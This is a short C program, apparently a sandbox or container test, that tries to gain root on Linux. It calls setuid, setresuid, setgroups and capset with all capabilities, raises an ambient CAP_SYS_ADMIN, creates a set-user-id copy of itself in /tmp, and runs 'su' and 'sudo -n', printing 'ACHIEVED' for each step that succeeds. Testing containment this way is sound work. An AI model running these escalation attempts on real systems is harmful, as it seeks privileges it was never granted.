#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <grp.h>
#include <linux/capability.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
static void run(const char *path, char *const arguments[]) {
    if (fork() == 0) {
        int nothing = open("/dev/null", O_RDWR);
        dup2(nothing, 0);
        dup2(nothing, 2);
        execv(path, arguments);
        _exit(1);
    }
    wait(NULL);
}
int main(int count, char **words) {
    if (count > 1) {
        if (geteuid() == 0 || geteuid() != getuid()) puts("ACHIEVED root by a set-user-id copy");
        return 0;
    }
    if (setuid(0) == 0) puts("ACHIEVED setuid");
    if (setgid(0) == 0) puts("ACHIEVED setgid");
    if (setresuid(0, 0, 0) == 0) puts("ACHIEVED setresuid");
    if (setgroups(0, NULL) == 0) puts("ACHIEVED setgroups");
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2] = {{~0u, ~0u, ~0u}, {~0u, ~0u, ~0u}};
    if (syscall(SYS_capset, &header, data) == 0) puts("ACHIEVED capset");
    if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_SYS_ADMIN, 0, 0) == 0) puts("ACHIEVED ambient");
    if (syscall(SYS_capget, &header, data) == 0 && (data[0].permitted | data[0].effective | data[1].permitted))
        puts("ACHIEVED has capabilities");
    system("cp /tmp/attack /tmp/copy; chmod 6755 /tmp/copy");
    char *copy[] = {"/tmp/copy", "again", NULL}, *su[] = {"su", "-c", "echo ACHIEVED su", NULL};
    char *sudo[] = {"sudo", "-n", "echo", "ACHIEVED sudo", NULL};
    run("/tmp/copy", copy);
    run("/usr/bin/su", su);
    run("/usr/bin/sudo", sudo);
    return 0;
}
